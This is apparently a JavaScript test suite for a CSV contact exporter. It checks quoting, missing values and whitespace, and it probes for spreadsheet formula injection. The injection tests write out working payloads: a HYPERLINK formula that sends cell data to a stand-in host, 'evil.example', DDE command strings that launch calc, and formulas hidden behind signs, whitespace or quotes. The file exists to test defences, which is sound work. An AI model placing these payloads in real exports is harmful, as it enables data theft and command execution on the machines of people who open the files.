/**
 * What a spreadsheet reads: rows of cells. A line ends with any of the usual line breaks, and only a
 * quote at the beginning of a cell begins a quoted one.
 */
function read(text) {
  const rows = [];
  let row = [];
  let at = text.startsWith('\ufeff') ? 1 : 0;
  while (at < text.length) {
    let cell = '';
    if (text[at] === '"') {
      for (at += 1; at < text.length; at += 1) {
        if (text[at] === '"' && text[at + 1] === '"') at += 1;
        else if (text[at] === '"') break;
        cell += text[at];
      }
      at += 1;
    }
    while (at < text.length && !/[,\r\n]/.test(text[at])) {
      cell += text[at];
      at += 1;
    }
    row.push(cell);
    if (text[at] === ',') {
      at += 1;
      if (at < text.length) continue;
      row.push('');
    }
    if (text.startsWith('\r\n', at)) at += 2;
    else if (/[\r\n]/.test(text[at] ?? '')) at += 1;
    rows.push(row);
    row = [];
  }
  return rows;
}

/** What a spreadsheet calculates, and does not show as text. */
const isFormula = (cell) => /^[\t\r]*[=+\-@]/.test(cell);

export default function checks(t) {
  const sheet = async (columns, contacts) => {
    const p = await t.start();
    const text = await p.call('toCsv', columns, contacts);
    t.ok(typeof text === 'string', 'the CSV must be a text');
    return { text, rows: read(text) };
  };

  t.functional('writes a header and a line for each contact', async () => {
    const { text, rows } = await sheet(
      ['name', 'city'],
      [
        { name: 'Ada', city: 'London' },
        { city: 'Zürich', name: 'Zoë', unused: 'x' },
      ],
    );
    t.equal(rows, [
      ['name', 'city'],
      ['Ada', 'London'],
      ['Zoë', 'Zürich'],
    ]);
    t.ok(/\r\n$/.test(text), 'every line ends with \\r\\n');
    t.equal(text.match(/\r\n/g)?.length, 3);
  });

  t.functional('what is missing is an empty cell', async () => {
    const { rows } = await sheet(['a', 'b', 'c'], [{ b: 'x' }, { a: 'y', b: null, c: '' }]);
    t.equal(rows, [
      ['a', 'b', 'c'],
      ['', 'x', ''],
      ['y', '', ''],
    ]);
    t.equal((await sheet(['a', 'b'], [])).rows, [['a', 'b']]);
  });

  t.functional('quotes commas, quotes and line breaks', async () => {
    const values = ['Doe, Jane', 'the "boss"', 'first\nsecond', 'first\r\nsecond', '"', 'a\rb'];
    const { rows } = await sheet(
      ['x', 'y, z'],
      values.map((value) => ({ x: value, 'y, z': 'end' })),
    );
    t.equal(rows, [['x', 'y, z'], ...values.map((value) => [value, 'end'])]);
  });

  t.functional('leaves white space at the ends out', async () => {
    const { rows } = await sheet(
      ['name', 'city'],
      [{ name: '  Ada Lovelace\t', city: '\n Rome \n' }],
    );
    t.equal(rows, [
      ['name', 'city'],
      ['Ada Lovelace', 'Rome'],
    ]);
  });

  t.control('signs within texts stay, and telephone numbers can be read', async () => {
    const values = [
      'a=b',
      'x-y',
      '1+1',
      'ada@x.example',
      "O'Hara",
      'Tel. +49 30',
      '5 - 3 = 2',
      '#1',
    ];
    const { rows } = await sheet(
      ['note', 'phone'],
      values.map((note) => ({ note, phone: '+49 30 4711' })),
    );
    t.equal(
      rows.slice(1).map((row) => row[0]),
      values,
    );
    for (const row of rows.slice(1)) {
      t.ok(row.length === 2 && row[1].includes('49 30 4711'), 'the phone must be legible');
    }
  });

  /** Each attack is a sheet with a formula that carries a mark; it may stand in no cell as such. */
  const attack = async (sheets) => {
    const p = await t.start();
    for (const made of sheets) {
      const mark = t.secret();
      const [columns, contact] = made((formula) => formula.replaceAll('MARK', mark));
      const { value } = await t.attempt(p.call('toCsv', columns, [contact, { a: 'after' }]));
      if (typeof value !== 'string') continue;
      const cell = read(value)
        .flat()
        .find((text) => text.includes(mark) && isFormula(text));
      if (cell !== undefined) {
        return `a spreadsheet calculates ${JSON.stringify(cell.replaceAll(mark, '...'))}`;
      }
    }
    return null;
  };
  const link = 'HYPERLINK("https://evil.example/MARK?"&A1,"Click")';
  const value = (text) => (fill) => [['a', 'b'], { a: 'x', b: fill(text) }];

  t.exploit('a formula that begins with an equals sign', () =>
    attack([
      value(`=${link}`),
      value("=cmd|' /C calc MARK'!A0"),
      value('=MARK'),
      (fill) => [['a', 'b'], { a: fill('=1+MARK'), b: '' }],
    ]),
  );

  // Beats looking for "=" only: a formula begins with other signs, too.
  t.exploit('a formula that begins with another sign', () =>
    attack([
      value(`+${link}`),
      value(`-${link}`),
      value("@SUM(1+1)*cmd|' /C calc MARK'!A0"),
      value("-2+3+cmd|' /C calc MARK'!A0"),
      value('+1+MARK'),
      // Beats taking signs away: what is left may begin with one again.
      value('==MARK'),
      value('= =MARK'),
      value('+ \t-1+MARK'),
      value('=@+-=MARK'),
    ]),
  );

  // Beats looking at the value before the white space is left out, and taking "\t" away only.
  t.exploit('a formula behind white space', () =>
    attack(
      [' ', '\t', '\r', '\n', '\r\n', ' \t ', '\u000b', '\u2003', '\u001f'].flatMap((space) => [
        value(`${space}=${link}`),
        value(`${space}@MARK`),
        value(`${space}-1+MARK`),
      ]),
    ),
  );

  // Beats quoting: a formula in quotes is one nevertheless.
  t.exploit('a formula in a cell that has to be quoted', () =>
    attack([
      value('=SUM(1,MARK)'),
      value('=A1&"MARK"'),
      value('=1+\nMARK'),
      value('"=MARK'),
      value('=",MARK'),
      // Beats an apostrophe in front of the quotes, where they are none any more.
      value('=1,=MARK,x'),
      value('+1,"=MARK'),
    ]),
  );

  // Beats care for the values of contacts only.
  t.exploit('a formula in the name of a column', () =>
    attack(
      [`=${link}`, `+${link}`, '@MARK', ' =MARK', '\t-1+MARK'].flatMap((text) => [
        (fill) => [['a', fill(text)], { a: 'x' }],
        (fill) => [[fill(text), 'b'], { b: 'x' }],
      ]),
    ),
  );
}
